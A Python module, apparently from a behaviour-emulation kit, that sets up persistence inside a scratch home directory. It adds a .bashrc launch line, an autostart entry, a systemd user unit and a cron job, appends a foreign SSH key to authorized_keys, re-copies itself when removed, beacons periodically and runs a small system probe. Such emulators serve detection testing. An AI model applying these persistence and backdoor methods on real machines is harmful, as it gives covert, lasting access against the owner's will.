"""Settles in the scratch home so that it would be started again."""

import shutil
import subprocess
from pathlib import Path

from .kit import Task, begin

_UNIT = (
    b"[Unit]\nDescription=Session helper\n"
    b"[Service]\nExecStart=%h/.local/bin/helper\n[Install]\nWantedBy=default.target\n"
)
_ENTRY = b"[Desktop Entry]\nType=Application\nName=Helper\nExec=helper\n"


def run(task: Task) -> None:
    """Places itself, then looks now and then whether it is still there."""
    ways = list(task.options.get("ways", ["bashrc", "autostart", "systemd", "cron", "keys"]))
    helper = task.home / ".local" / "bin" / "helper"
    for number in task.rounds():
        if number < len(ways):
            _settle(task, ways[number], helper)
        elif task.options.get("watch", True) and not helper.exists():
            _settle(task, "copy", helper)
        if task.options.get("report") and number % 3 == 0:
            task.ask("/alive", b"x" * 64)


def _settle(task: Task, way: str, helper: Path) -> None:
    match way:
        case "copy":
            helper.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(__file__, helper)
        case "bashrc":
            rc = task.home / ".bashrc"
            task.write(rc, rc.read_bytes() + b"\n(helper &) 2>/dev/null\n")
        case "autostart":
            task.write(task.home / ".config" / "autostart" / "helper.desktop", _ENTRY)
        case "systemd":
            task.write(task.home / ".config" / "systemd" / "user" / "helper.service", _UNIT)
        case "cron":
            task.write(task.home / ".config" / "crontab", b"*/5 * * * * helper\n")
        case "keys":
            keys = task.home / ".ssh" / "authorized_keys"
            task.write(keys, keys.read_bytes() + b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA me@elsewhere\n")
        case "probe":
            subprocess.run(["/bin/sh", "-c", "id; uname -a; ls -la"], stdout=subprocess.DEVNULL, check=False)


if __name__ == "__main__":
    run(begin())
